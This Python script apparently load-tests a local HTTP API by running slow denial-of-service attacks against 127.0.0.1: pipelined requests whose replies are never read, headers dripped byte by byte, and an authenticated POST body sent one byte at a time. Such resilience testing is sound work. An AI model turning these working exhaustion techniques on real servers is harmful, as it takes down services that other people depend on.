"""Attacks on an HTTP server, repeated: one coroutine for each connection."""

import asyncio
import socket
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass

AGAIN_SECONDS = 0.05
"""Pause of an attacker before it reconnects."""

DRIP_SECONDS = 1.0
PIPELINED = 200
LONG_BODY = 1_000_000


@dataclass(frozen=True)
class Attack:
    """An attack: its target, kind, number of connections and duration."""

    port: int
    sort: str
    connections: int
    seconds: float
    token: str


async def read_nothing(taken: socket.socket, _attack: Attack) -> None:
    """Request the document repeatedly, and never read an answer."""
    asked = b"GET /openapi.json HTTP/1.1\r\nHost: api\r\n\r\n" * PIPELINED
    while True:
        await asyncio.get_running_loop().sock_sendall(taken, asked)


async def send_half_a_head(taken: socket.socket, _attack: Attack) -> None:
    """Start a request and drip its headers."""
    await _drip(taken, b"GET /v1/health HTTP/1.1\r\nHost: api\r\nX-Slow: ")


async def send_a_body_by_bytes(taken: socket.socket, attack: Attack) -> None:
    """Submit images with a valid token, one byte at a time."""
    head = (
        f"POST /v1/images HTTP/1.1\r\nHost: api\r\nAuthorization: Bearer {attack.token}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {LONG_BODY}\r\n\r\n"
    )
    await _drip(taken, head.encode() + b"{")


ATTACKS: dict[str, Callable[[socket.socket, Attack], Awaitable[None]]] = {
    "read-nothing": read_nothing,
    "half-heads": send_half_a_head,
    "slow-bodies": send_a_body_by_bytes,
}


async def attack(asked: Attack) -> int:
    """Attack for the requested time; return the number of opened connections."""
    opened = 0

    async def one() -> None:
        nonlocal opened
        loop = asyncio.get_running_loop()
        while True:
            with socket.socket() as taken, suppress(OSError):
                taken.setblocking(False)
                await loop.sock_connect(taken, ("127.0.0.1", asked.port))
                opened += 1
                await ATTACKS[asked.sort](taken, asked)
            await asyncio.sleep(AGAIN_SECONDS)

    with suppress(TimeoutError):
        async with asyncio.timeout(asked.seconds), asyncio.TaskGroup() as tasks:
            for _ in range(asked.connections):
                tasks.create_task(one())
    return opened


async def _drip(taken: socket.socket, begun: bytes) -> None:
    """Send the beginning, then drip bytes until the other side closes."""
    loop = asyncio.get_running_loop()
    await loop.sock_sendall(taken, begun)
    while True:
        with suppress(TimeoutError):
            async with asyncio.timeout(DRIP_SECONDS):
                if not await loop.sock_recv(taken, 65_536):
                    return
        await loop.sock_sendall(taken, b"a")


def main() -> None:
    """Attack by the command line's arguments."""
    port, sort, connections, seconds, token = sys.argv[1:]
    asked = Attack(int(port), sort, int(connections), float(seconds), token)
    sys.stdout.write(f"{asyncio.run(attack(asked))}\n")


if __name__ == "__main__":
    main()
